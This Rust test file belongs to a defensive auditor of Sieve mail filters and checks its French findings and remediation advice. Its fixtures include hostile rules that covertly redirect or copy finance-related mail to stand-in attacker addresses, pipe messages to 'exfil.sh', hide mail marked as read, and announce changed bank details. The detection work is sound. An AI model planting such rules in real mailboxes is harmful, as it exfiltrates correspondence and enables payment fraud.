//! Analysis of Sieve scripts through the public entry point: one test per finding id, the
//! French wording of conditions, variables, nesting, and the severity policy.

use vigie_mail::audit::{AuditFinding, Severity};
use vigie_mail::sieve::{AuditContext, ScriptSource, analyse_script};

fn ctx() -> AuditContext {
    AuditContext {
        own_addresses: vec!["secretariat@mairie-exemple.fr".to_owned()],
    }
}

fn analyse(text: &str, active: bool) -> Vec<AuditFinding> {
    analyse_script(
        &ScriptSource {
            name: "roundcube",
            active,
            text,
        },
        &ctx(),
    )
}

fn ids(findings: &[AuditFinding]) -> Vec<&str> {
    findings.iter().map(|f| f.id.as_str()).collect()
}

/// The only finding of `text` (active script).
fn single(text: &str) -> AuditFinding {
    single_with(text, true)
}

fn single_with(text: &str, active: bool) -> AuditFinding {
    let mut findings = analyse(text, active);
    assert_eq!(
        findings.len(),
        1,
        "expected one finding, got {:#?}",
        findings
    );
    findings.remove(0)
}

fn assert_contains(haystack: &str, needle: &str) {
    assert!(
        haystack.contains(needle),
        "« {needle} » not found in:\n{haystack}"
    );
}

// --- redirect ---------------------------------------------------------------------------------

#[test]
fn redirect_outside_under_condition_is_critical_and_described() {
    let script = "require [\"fileinto\"];\n\n\n\n\n\n\n\n\n\nif header :contains \"from\" \"tresorerie\" {\n    redirect \"pirate@example.net\";\n}\n";
    let f = single(script);
    assert_eq!(f.id, "sieve.redirect");
    assert_eq!(f.severity, Severity::Critical);
    assert!(
        f.detail.starts_with(
            "Le filtre « roundcube » (actif), ligne 12 : les messages dont l'expéditeur contient « tresorerie » sont renvoyés vers pirate@example.net."
        ),
        "{}",
        f.detail
    );
    assert_contains(
        &f.detail,
        "n'appartient pas au domaine de la boîte (mairie-exemple.fr)",
    );
    assert_contains(&f.title, "adresse extérieure");
    assert_eq!(f.evidence["script"], "roundcube");
    assert_eq!(f.evidence["active"], true);
    assert_eq!(f.evidence["line"], 12);
    assert_eq!(f.evidence["action"], "redirect");
    assert_eq!(f.evidence["target"], "pirate@example.net");
    assert_eq!(f.evidence["outside"], true);
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur contient « tresorerie »"
    );
    assert_eq!(f.evidence["condition_tree"][0]["test"], "header");
    assert_eq!(f.evidence["condition_tree"][0]["line"], 11);
}

#[test]
fn remediation_is_step_by_step() {
    let f = single("redirect \"pirate@example.net\";");
    let r = &f.remediation;
    assert!(r.starts_with("1. "), "{r}");
    for needle in [
        "capture d'écran",
        "personne titulaire de la boîte si elle a elle-même créé ce renvoi vers pirate@example.net",
        "« Paramètres › Filtres »",
        "mot de passe",
        "double authentification",
        "Cherchez depuis quand les messages partent vers pirate@example.net",
        "cybermalveillance.gouv.fr",
    ] {
        assert_contains(r, needle);
    }
    // The screenshot comes before the deletion.
    assert!(r.find("capture d'écran") < r.find("supprimez"));
}

#[test]
fn unconditional_redirect_is_all_messages() {
    let f = single("redirect \"pirate@example.net\";");
    assert_contains(
        &f.detail,
        "ligne 1 : tous les messages sont renvoyés vers pirate@example.net.",
    );
    assert_eq!(f.evidence["condition"], "tous les messages");
}

#[test]
fn redirect_copy_is_critical_and_explains_the_copy() {
    let f = single("require [\"copy\"];\nredirect :copy \"pirate@example.net\";");
    assert_eq!(f.id, "sieve.redirect_copy");
    assert_eq!(f.severity, Severity::Critical);
    assert_contains(
        &f.detail,
        "tous les messages sont renvoyés en copie vers pirate@example.net.",
    );
    assert_contains(&f.detail, "la personne titulaire ne remarque rien");
    assert_eq!(f.evidence["copy"], true);
}

#[test]
fn redirect_inside_own_domain_is_medium() {
    let f = single("redirect \"compta@mairie-exemple.fr\";");
    assert_eq!(f.id, "sieve.redirect");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(f.evidence["outside"], false);
    assert_contains(&f.title, "même organisation");
    let f = single("redirect :copy \"agent@services.mairie-exemple.fr\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.redirect_copy", Severity::Medium)
    );
    // Inactive: one level lower but at least medium.
    let f = single_with("redirect \"compta@mairie-exemple.fr\";", false);
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn redirect_in_inactive_script_is_one_level_lower() {
    let f = single_with("redirect \"pirate@example.net\";", false);
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "Le filtre « roundcube » (inactif), ligne 1");
    assert_contains(&f.detail, "peut être réactivé à tout moment");
    let f = single_with("redirect :copy \"pirate@example.net\";", false);
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn public_provider_domain_is_not_inside() {
    let ctx = AuditContext {
        own_addresses: vec!["mairie.exemple@orange.fr".to_owned()],
    };
    let run = |text: &str| {
        analyse_script(
            &ScriptSource {
                name: "s",
                active: true,
                text,
            },
            &ctx,
        )
    };
    assert_eq!(
        run("redirect \"voisin@orange.fr\";")[0].severity,
        Severity::Critical
    );
    assert_eq!(
        run("redirect \"Mairie.Exemple@orange.fr\";")[0].severity,
        Severity::Medium
    );
    // No own address known: everything is outside.
    let none = analyse_script(
        &ScriptSource {
            name: "s",
            active: true,
            text: "redirect \"a@mairie-exemple.fr\";",
        },
        &AuditContext::default(),
    );
    assert_eq!(none[0].severity, Severity::Critical);
}

#[test]
fn string_list_of_targets_is_one_finding_naming_all() {
    let f = single("redirect [\"compta@mairie-exemple.fr\", \"pirate@example.net\"];");
    assert_eq!(f.severity, Severity::Critical);
    assert_contains(
        &f.detail,
        "sont renvoyés vers compta@mairie-exemple.fr et pirate@example.net.",
    );
    assert_eq!(f.evidence["targets"][0]["outside"], false);
    assert_eq!(f.evidence["targets"][1]["outside"], true);
}

// --- nesting, elsif/else, stop -------------------------------------------------------------------

#[test]
fn redirect_three_levels_deep_with_variable_target_is_found() {
    let script = r#"require ["variables", "copy"];
set "user" "collecte";
set "domain" "exemple-pirate.net";
if anyof (header :contains "subject" ["facture", "virement"], address :is "from" ["tresorerie@dgfip.fr", "compta@fournisseur.fr"]) {
    if not size :over 1M {
        if allof (exists "X-Mailer", not header :is "to" "maire@mairie-exemple.fr") {
            redirect :copy "${user}@${domain}";
        }
    }
}
"#;
    let f = single(script);
    assert_eq!(f.id, "sieve.redirect_copy");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["line"], 7);
    assert_eq!(f.evidence["target"], "collecte@exemple-pirate.net");
    assert_eq!(
        f.evidence["condition"],
        "les messages (dont l'objet contient « facture » ou « virement » ou dont l'expéditeur est « tresorerie@dgfip.fr » ou « compta@fournisseur.fr ») et qui ont un en-tête « X-Mailer » et d'au plus 1 Mo et dont le destinataire n'est pas « maire@mairie-exemple.fr »"
    );
    assert_contains(
        &f.detail,
        "sont renvoyés en copie vers collecte@exemple-pirate.net.",
    );
    assert_eq!(
        f.evidence["condition_tree"].as_array().map(Vec::len),
        Some(3)
    );
}

#[test]
fn elsif_and_else_carry_the_negation_of_earlier_branches() {
    let script = r#"if header :contains "subject" "newsletter" {
    fileinto "Lettres";
} elsif size :over 1M {
    redirect "gros@example.net";
} else {
    redirect "reste@example.net";
}
"#;
    let findings = analyse(script, true);
    assert_eq!(ids(&findings), vec!["sieve.redirect", "sieve.redirect"]);
    assert_eq!(
        findings[0].evidence["condition"],
        "les messages de plus de 1 Mo et dont l'objet ne contient pas « newsletter »"
    );
    assert_eq!(findings[0].evidence["line"], 4);
    assert_eq!(
        findings[1].evidence["condition"],
        "tous les messages sauf ceux dont l'objet contient « newsletter » ou de plus de 1 Mo"
    );
    assert_contains(
        &findings[1].detail,
        "ligne 6 : tous les messages sauf ceux dont l'objet contient « newsletter » ou de plus de 1 Mo sont renvoyés vers reste@example.net.",
    );
}

#[test]
fn not_is_rendered_in_french() {
    let f =
        single("if not header :contains \"subject\" \"[interne]\" { redirect \"x@example.net\"; }");
    assert_eq!(
        f.evidence["condition"],
        "tous les messages sauf ceux dont l'objet contient « [interne] »"
    );
    let f = single(
        "if allof(header :contains \"from\" \"banque\", not exists \"List-Id\") { redirect \"x@example.net\"; }",
    );
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur contient « banque » et qui n'ont pas d'en-tête « List-Id »"
    );
}

#[test]
fn envelope_body_and_size_conditions() {
    let f = single(
        "require [\"envelope\", \"body\"];\nif anyof(envelope :is \"from\" \"a@b.fr\", body :contains \"IBAN\", size :under 10K) { discard; }",
    );
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur de l'enveloppe est « a@b.fr » ou dont le corps contient « IBAN » ou de moins de 10 Ko"
    );
}

#[test]
fn rules_after_a_stop_are_narrowed() {
    let script = r#"if address :domain :is "from" "mairie-exemple.fr" { keep; stop; }
redirect "pirate@example.net";
"#;
    let f = single(script);
    assert_eq!(
        f.evidence["condition"],
        "tous les messages sauf ceux dont le domaine de l'expéditeur est « mairie-exemple.fr »"
    );
    assert_eq!(f.evidence["unreachable"], false);
}

#[test]
fn actions_after_an_unconditional_stop_are_flagged_unreachable() {
    let f = single("keep;\nstop;\nredirect \"pirate@example.net\";");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["unreachable"], true);
    assert_contains(&f.detail, "« stop » placée avant");
}

// --- variables ----------------------------------------------------------------------------------

#[test]
fn variables_with_modifiers_and_alternatives() {
    let script = r#"require ["variables"];
set :lower "dest" "PIRATE@EXAMPLE.NET";
redirect "${DEST}";
if header :contains "subject" "a" { set "alt" "a@example.net"; } else { set "alt" "b@example.org"; }
redirect "${alt}";
set :length "n" "abcd";
redirect "x${n}@example.net";
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 3);
    assert_eq!(findings[0].evidence["target"], "pirate@example.net");
    assert_eq!(
        findings[1].evidence["target"],
        "a@example.net ou b@example.org"
    );
    assert_contains(
        &findings[1].detail,
        "sont renvoyés vers a@example.net ou b@example.org.",
    );
    assert_eq!(findings[2].evidence["target"], "x4@example.net");
}

#[test]
fn unknown_variables_are_computed_at_run_time_and_outside() {
    let script = r#"require ["variables"];
if header :matches "subject" "* *" { redirect "${1}@${2}"; }
redirect "${jamais_defini}";
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 2);
    assert_eq!(
        findings[0].evidence["target"],
        "«valeur calculée à l'exécution»@«valeur calculée à l'exécution»"
    );
    assert_eq!(findings[0].severity, Severity::Critical);
    assert_contains(
        &findings[0].detail,
        "n'est connue qu'à la réception du message",
    );
    assert_eq!(
        findings[1].evidence["target"],
        "«valeur calculée à l'exécution»"
    );
    assert_eq!(
        findings[0].evidence["targets"][0]["computed_at_run_time"],
        true
    );
}

#[test]
fn unknown_local_part_at_own_domain_stays_inside() {
    let f = single("require \"variables\";\nredirect \"${x}@mairie-exemple.fr\";");
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn without_the_variables_extension_dollar_braces_are_literal() {
    let f = single("set \"d\" \"a@b.fr\";\nredirect \"${d}\";");
    assert_eq!(f.evidence["target"], "${d}");
}

// --- discard ------------------------------------------------------------------------------------

#[test]
fn discard_is_high_and_medium_when_inactive() {
    let f = single("if header :contains \"from\" \"dgfip\" { discard; }");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.discard", Severity::High)
    );
    assert_contains(
        &f.detail,
        "ligne 1 : les messages dont l'expéditeur contient « dgfip » sont supprimés sans être remis ni placés dans la corbeille.",
    );
    assert_contains(&f.remediation, "renvoyer leurs messages récents");
    let f = single_with("discard;", false);
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn discard_of_spam_is_low() {
    let f = single(
        "require \"spamtest\";\nif spamtest :value \"ge\" :comparator \"i;ascii-numeric\" \"6\" { discard; }",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.discard", Severity::Low)
    );
}

// --- fileinto -----------------------------------------------------------------------------------

#[test]
fn fileinto_hidden_folders_is_high() {
    for folder in [
        "Trash",
        "Corbeille",
        "INBOX.Deleted Items",
        "Éléments supprimés",
        ".cache",
        "RSS Feeds",
        "Conversation History",
        "xkqzwrt",
        "Indésirables",
    ] {
        let f = single(&format!(
            "require \"fileinto\";\nif header :contains \"subject\" \"facture\" {{ fileinto \"{folder}\"; }}"
        ));
        assert_eq!(
            (f.id.as_str(), f.severity),
            ("sieve.fileinto_trash", Severity::High),
            "{folder}"
        );
        assert_contains(
            &f.detail,
            &format!(
                "les messages dont l'objet contient « facture » sont déplacés dans le dossier « {folder} »"
            ),
        );
        assert_eq!(f.evidence["target"], folder);
    }
}

#[test]
fn ordinary_folders_raise_nothing() {
    let findings = analyse(
        "require \"fileinto\";\nif header :contains \"from\" \"prefecture\" { fileinto \"Préfecture\"; }\nfileinto \"INBOX.Archives 2023\";",
        true,
    );
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn fileinto_hidden_and_marked_read_is_critical() {
    let script = r#"require ["fileinto", "imap4flags"];
if body :contains ["RIB", "virement"] {
    addflag "\\Seen";
    fileinto "RSS Feeds";
}
"#;
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.fileinto_trash", Severity::Critical)
    );
    assert_contains(
        &f.detail,
        "sont déplacés dans le dossier « RSS Feeds » (un dossier peu visible, que personne ne consulte) et marqués comme lus.",
    );
    assert_contains(&f.detail, "signature d'une prise de contrôle");
    assert_eq!(f.evidence["marked_seen"], true);
    // Same with :flags, and inactive: one level lower.
    let f = single_with(
        "require [\"fileinto\", \"imap4flags\"];\nfileinto :flags \"\\\\Seen\" \"Trash\";",
        false,
    );
    assert_eq!(f.severity, Severity::High);
    // removeflag clears it again.
    let f = single("addflag \"\\\\Seen\";\nremoveflag \"\\\\Seen\";\nfileinto \"Trash\";");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn fileinto_copy_and_special_use() {
    let f = single("require [\"fileinto\", \"copy\"];\nfileinto :copy \"Trash\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.fileinto_trash", Severity::Low)
    );
    assert_contains(&f.detail, "sont copiés dans le dossier « Trash »");
    let f = single(
        "require [\"fileinto\", \"special-use\"];\nfileinto :specialuse \"\\\\Junk\" \"Boite\";",
    );
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.evidence["folder_kind"], "junk");
}

#[test]
fn benign_spam_script_raises_nothing_above_low() {
    let script = r#"require ["fileinto", "spamtest", "relational", "comparator-i;ascii-numeric"];
# rule:[Spam]
if header :contains "X-Spam-Flag" "YES" {
    fileinto "Junk";
    stop;
}
if anyof (header :contains "X-Spam-Status" "Yes", header :matches "X-Spam-Level" "*****") {
    fileinto "INBOX.Spam";
}
if spamtest :value "ge" :comparator "i;ascii-numeric" "8" {
    fileinto "Indésirables";
}
if header :contains "subject" "***SPAM***" { fileinto "Trash"; }
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 4, "{findings:#?}");
    assert!(
        findings.iter().all(|f| f.severity <= Severity::Low),
        "{findings:#?}"
    );
    assert_eq!(findings[0].severity, Severity::Info);
    assert_contains(&findings[0].title, "anti-spam");
    assert_eq!(findings[3].severity, Severity::Low);
}

#[test]
fn spam_looking_conditions_that_catch_ordinary_mail_are_not_benign() {
    for condition in [
        "not header :contains \"X-Spam-Flag\" \"YES\"",
        "header :is \"X-Spam-Flag\" \"NO\"",
        "header :matches \"X-Spam-Flag\" \"*\"",
        "anyof(header :contains \"X-Spam-Flag\" \"YES\", header :contains \"from\" \"banque\")",
        "spamtest :value \"lt\" \"3\"",
        "exists \"X-Spam-Flag\"",
    ] {
        let f = single(&format!("if {condition} {{ fileinto \"Junk\"; }}"));
        assert_eq!(f.severity, Severity::High, "{condition}");
    }
    // An obscure folder is never benign.
    let f = single("if header :contains \"X-Spam-Flag\" \"YES\" { fileinto \".x\"; }");
    assert_eq!(f.severity, Severity::High);
}

// --- vacation, notify, external programs, include -----------------------------------------------------

#[test]
fn vacation_is_medium_active_and_low_inactive() {
    let script = "require \"vacation\";\nvacation :days 7 :subject \"Absence\" :addresses [\"secretariat@mairie-exemple.fr\", \"maire@mairie-exemple.fr\"] \"Je suis absente jusqu'au 3 mars.\";";
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.vacation", Severity::Medium)
    );
    assert_contains(
        &f.detail,
        "tous les messages reçoivent une réponse automatique (objet « Absence » ; au plus une réponse tous les 7 jours par expéditeur ; adresses déclarées : « secretariat@mairie-exemple.fr », « maire@mairie-exemple.fr » ; texte : « Je suis absente jusqu'au 3 mars. »).",
    );
    assert_eq!(f.evidence["subject"], "Absence");
    assert_eq!(f.evidence["period"], "7 jours");
    assert_eq!(single_with(script, false).severity, Severity::Low);
}

#[test]
fn vacation_mentioning_bank_details_is_high() {
    let script = "vacation :subject \"Changement\" text:\nBonjour,\nVeuillez noter nos nouvelles coordonnées bancaires.\n.\n;";
    let f = single(script);
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "fraude au changement de RIB");
    assert_eq!(f.evidence["bank_details"], true);
    assert_eq!(single_with(script, false).severity, Severity::Medium);
}

#[test]
fn notify_outside_is_high_and_inside_is_silent() {
    let f = single(
        "require \"enotify\";\nif header :contains \"from\" \"banque\" { notify :message \"Nouveau\" \"mailto:espion@example.net?subject=x\"; }",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.notify", Severity::High)
    );
    assert_contains(
        &f.detail,
        "les messages dont l'expéditeur contient « banque » déclenchent une notification envoyée à espion@example.net (message : « Nouveau »).",
    );
    assert_eq!(f.evidence["recipients"][0], "espion@example.net");
    assert!(analyse("notify \"mailto:secretariat%40mairie-exemple.fr\";", true).is_empty());
    let f = single("notify \"xmpp:espion@jabber.example\";");
    assert_eq!(f.severity, Severity::High);
    // Old draft syntax.
    let f = single("notify :method \"mailto\" :options \"espion@example.net\";");
    assert_eq!(f.evidence["recipients"][0], "espion@example.net");
    assert_eq!(
        single_with("notify \"mailto:espion@example.net\";", false).severity,
        Severity::Medium
    );
}

#[test]
fn external_programs_are_critical() {
    for (command, verb) in [
        ("pipe", "sont transmis au programme externe « exfil.sh »"),
        (
            "filter",
            "sont modifiés par le programme externe « exfil.sh »",
        ),
        (
            "execute",
            "déclenchent l'exécution du programme externe « exfil.sh »",
        ),
    ] {
        let script =
            format!("require \"vnd.dovecot.{command}\";\n{command} \"exfil.sh\" [\"-q\"];");
        let f = single(&script);
        assert_eq!(
            (f.id.as_str(), f.severity),
            ("sieve.extprogram", Severity::Critical),
            "{command}"
        );
        assert_contains(&f.detail, &format!("{verb} (arguments : « -q »)"));
        assert_contains(&f.remediation, "hébergeur");
        assert_eq!(single_with(&script, false).severity, Severity::High);
    }
}

#[test]
fn include_is_mentioned() {
    let f = single("require \"include\";\ninclude :personal \"transferts\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.include", Severity::Low)
    );
    assert_contains(&f.detail, "script personnel « transferts »");
    assert_eq!(f.evidence["included_script"], "transferts");
}

// --- Roundcube ----------------------------------------------------------------------------------

#[test]
fn roundcube_managesieve_script() {
    // As written by Roundcube's managesieve plugin.
    let script = "require [\"fileinto\",\"copy\"];\r\n# rule:[Factures]\r\nif header :contains \"subject\" \"facture\"\r\n{\r\n\tfileinto \"INBOX.Factures\";\r\n}\r\n# rule:[transfert]\r\nif anyof (header :contains \"from\" \"tresorerie\", header :contains \"subject\" \"virement\")\r\n{\r\n\tredirect :copy \"compta.mairie@gmail.com\";\r\n}\r\n";
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.redirect_copy", Severity::Critical)
    );
    assert_eq!(f.evidence["line"], 10);
    assert_eq!(f.evidence["rule"], "transfert");
    assert_contains(
        &f.detail,
        "ligne 10 : les messages dont l'expéditeur contient « tresorerie » ou dont l'objet contient « virement » sont renvoyés en copie vers compta.mairie@gmail.com.",
    );
    assert_contains(
        &f.detail,
        "Nom de la règle dans le webmail : « transfert ».",
    );
}

#[test]
fn roundcube_disabled_rule_keeps_its_condition_and_is_lowered() {
    let script = "require [\"fileinto\"];\n# rule:[pause]\nif false # header :contains \"from\" \"tresorerie\"\n{\n\tredirect \"pirate@example.net\";\n}\n";
    let f = single(script);
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.evidence["disabled_rule"], true);
    assert_contains(
        &f.detail,
        "ligne 5 : les messages dont l'expéditeur contient « tresorerie » sont renvoyés vers pirate@example.net.",
    );
    assert_contains(&f.detail, "mise en pause");
    // A bare `if false` is switched off too.
    let f = single("if false { redirect \"pirate@example.net\"; }");
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "tous les messages sont renvoyés");
}

// --- parse errors and limits --------------------------------------------------------------------------

#[test]
fn parse_error_is_a_medium_finding_with_line_and_reason() {
    let f = single(
        "require \"fileinto\";\nif header :contains \"subject\" \"x\" {\n  fileinto \"Trash\"\n}\n",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.parse_error", Severity::Medium)
    );
    assert_contains(
        &f.detail,
        "Le filtre « roundcube » (actif), ligne 4, colonne 1 : le script ne peut pas être lu (« } » inattendu alors que « ; » ou « { » était attendu).",
    );
    assert_eq!(f.evidence["line"], 4);
    assert_eq!(f.evidence["column"], 1);
    assert_contains(&f.remediation, "ligne 4");
    let f = single_with("redirect \"x@y.fr\" ;; \u{0}", false);
    assert_eq!(f.id, "sieve.parse_error");
    assert_contains(&f.detail, "(inactif)");
}

#[test]
fn hostile_scripts_give_parse_errors_not_crashes() {
    let deep = format!(
        "{}redirect \"a@b.fr\";{}",
        "if true {".repeat(50_000),
        "}".repeat(50_000)
    );
    let f = single(&deep);
    assert_eq!(f.id, "sieve.parse_error");
    assert_contains(&f.detail, "imbrication trop profonde");
    let big = "#".repeat(2 << 20);
    let f = single(&big);
    assert_contains(&f.detail, "taille maximale");
}

#[test]
fn too_many_findings_keep_the_most_serious() {
    let mut script = String::from("require [\"fileinto\"];\n");
    for _ in 0..300 {
        script.push_str("fileinto :copy \"Trash\";\n");
    }
    script.push_str("redirect \"pirate@example.net\";\n");
    let findings = analyse(&script, true);
    assert_eq!(findings.len(), 201);
    assert_eq!(findings[199].id, "sieve.redirect");
    assert_eq!(findings[200].id, "sieve.truncated");
    assert_contains(&findings[200].detail, "301 actions");
}

#[test]
fn long_elsif_chains_stay_fast_and_bounded() {
    let mut script = String::from("if false { keep; }");
    for i in 0..20_000 {
        script.push_str(&format!(" elsif header :is \"x\" \"{i}\" {{ discard; }}"));
    }
    script.push_str(" else { redirect \"pirate@example.net\"; }");
    let start = std::time::Instant::now();
    let findings = analyse(&script, true);
    assert!(start.elapsed().as_secs() < 20);
    assert_eq!(
        findings.last().map(|f| f.id.as_str()),
        Some("sieve.truncated")
    );
    let redirect = findings
        .iter()
        .find(|f| f.id == "sieve.redirect")
        .unwrap_or_else(|| panic!("no redirect"));
    assert!(
        redirect.detail.chars().count() < 4000,
        "{}",
        redirect.detail.len()
    );
}

#[test]
fn foreverypart_blocks_are_walked() {
    let f = single(
        "require [\"foreverypart\", \"mime\"];\nforeverypart { if header :mime :contains \"Content-Type\" \"pdf\" { redirect \"pdf@example.net\"; } }",
    );
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["line"], 2);
}

#[test]
fn findings_come_in_script_order() {
    let findings = analyse(
        "discard;\nredirect \"a@example.net\";\nvacation \"absent\";",
        true,
    );
    assert_eq!(
        ids(&findings),
        vec!["sieve.discard", "sieve.redirect", "sieve.vacation"]
    );
}

/// `head`, then `unit` repeated, then `tail`, just under the 1 MiB limit.
fn fill(head: &str, unit: &str, tail: &str) -> String {
    let mut text = head.to_owned();
    while text.len() + unit.len() + tail.len() < 1 << 20 {
        text.push_str(unit);
    }
    text.push_str(tail);
    text
}

#[test]
fn hostile_scripts_are_analysed_in_bounded_time_and_size() {
    let mut many_variables = String::from("require \"variables\";");
    for i in 0..300 {
        many_variables.push_str(&format!("set \"v{i}\" \"x{i}\";"));
    }
    let cases = [
        ("redirects", fill("", "redirect \"a@b.fr\";\n", "")),
        (
            "doubling",
            fill(
                "require \"variables\";set \"a\" \"xy\";",
                "set \"a\" \"${a}${a}\";",
                "redirect \"${a}\";",
            ),
        ),
        (
            "variables then branches",
            fill(
                &many_variables,
                "if true { set \"v1\" \"y\"; }",
                "redirect \"${v1}\";",
            ),
        ),
        (
            "references",
            fill(
                "require \"variables\";set \"e\" \"\";redirect \"",
                "${e}",
                "\";",
            ),
        ),
        (
            "wide anyof",
            fill(
                "if anyof(",
                "exists \"x\",",
                "true) { redirect \"a@b.fr\"; }",
            ),
        ),
        (
            "disabled rules",
            fill(
                "",
                "if false # header :contains \"from\" \"x\"\n{ redirect \"a@b.fr\"; }\n",
                "",
            ),
        ),
        (
            "alternatives",
            fill(
                "require \"variables\";",
                "if header \"a\" \"b\" { set \"d\" \"a@b.fr\"; } else { set \"d\" \"c@d.fr\"; } redirect \"${d}\";",
                "",
            ),
        ),
    ];
    for (name, text) in cases {
        let start = std::time::Instant::now();
        let findings = analyse(&text, true);
        let elapsed = start.elapsed();
        assert!(elapsed.as_secs() < 30, "{name}: {elapsed:?}");
        let size: usize = findings
            .iter()
            .map(|f| f.detail.len() + f.remediation.len() + f.evidence.to_string().len())
            .sum();
        assert!(size < 4 << 20, "{name}: {size} bytes of findings");
        assert!(findings.iter().any(|f| f.id == "sieve.redirect"), "{name}");
    }
}

#[test]
fn variable_tracking_gives_up_on_hostile_scripts_towards_outside() {
    let mut script = String::from("require \"variables\";");
    for i in 0..300 {
        script.push_str(&format!("set \"v{i}\" \"x{i}\";"));
    }
    script.push_str("set \"dest\" \"compta@mairie-exemple.fr\";");
    for _ in 0..5000 {
        script.push_str("if true { keep; }");
    }
    script.push_str("redirect \"${dest}\";");
    let f = single(&script);
    // Too much bookkeeping: the target is no longer known, so it counts as outside.
    assert_eq!(f.evidence["target"], "«valeur calculée à l'exécution»");
    assert_eq!(f.severity, Severity::Critical);
}
